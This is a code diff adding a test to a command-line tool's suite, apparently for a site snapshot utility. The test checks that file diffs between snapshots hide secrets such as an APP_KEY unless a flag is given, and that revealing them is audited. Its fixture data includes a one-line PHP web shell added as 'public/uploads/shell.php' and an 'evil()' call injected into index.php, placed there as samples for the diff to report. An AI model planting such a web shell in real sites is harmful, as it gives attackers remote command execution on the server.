@@ -102,6 +102,34 @@ describe('files on the command line', () => {
     ]);
   });
 
+  it('show line by line what changed inside, and no password unless it is asked for', async () => {
+    const [, changed, first] = (await world.run(['snapshots', 'site'])).json['snapshots'] as { id: string }[];
+    const points = ['--from', first!.id, '--to', changed!.id];
+    const hidden = await world.run(['files', 'diff', 'site', '--text', ...points]);
+    expect(hidden.stdout).not.toContain('base64:abc');
+    expect(hidden.json).toMatchObject({
+      more: 0,
+      files: [
+        { path: '.env', change: 'removed', kind: 'text', hidden: 1, hunks: [{ lines: ['-APP_KEY=••••••(1)'] }] },
+        { path: 'index.php', kind: 'text', hunks: [{ lines: [' <?php', '-echo 1;', '+evil();'] }] },
+        {
+          path: 'public/uploads/shell.php',
+          change: 'added',
+          hunks: [{ lines: ['+<?php system($_GET[0]);', '\\ No newline at end of file'] }],
+        },
+      ],
+    });
+    const open = await world.run(
+      ['files', 'diff', 'site', '.env', '--text', '--show-secrets', ...points, '--lang', 'en'],
+      {
+        asText: true,
+      },
+    );
+    expect(open.stdout).toContain('.env (removed)\n@@ -1,1 +0,0 @@\n-APP_KEY=base64:abc');
+    expect(await readFile(join(world.home, 'audit.jsonl'), 'utf8')).toContain('files.secrets-shown');
+    expect(await world.run(['files', 'diff', 'site', '--show-secrets'])).toMatchObject({ exitCode: 2 });
+  });
+
   it('come back into a folder and onto the server beside, and never over anything', async () => {
     const [, , before] = (await world.run(['snapshots', 'site'])).json['snapshots'] as [Json, Json, { id: string }];
     const folder = world.path('back');
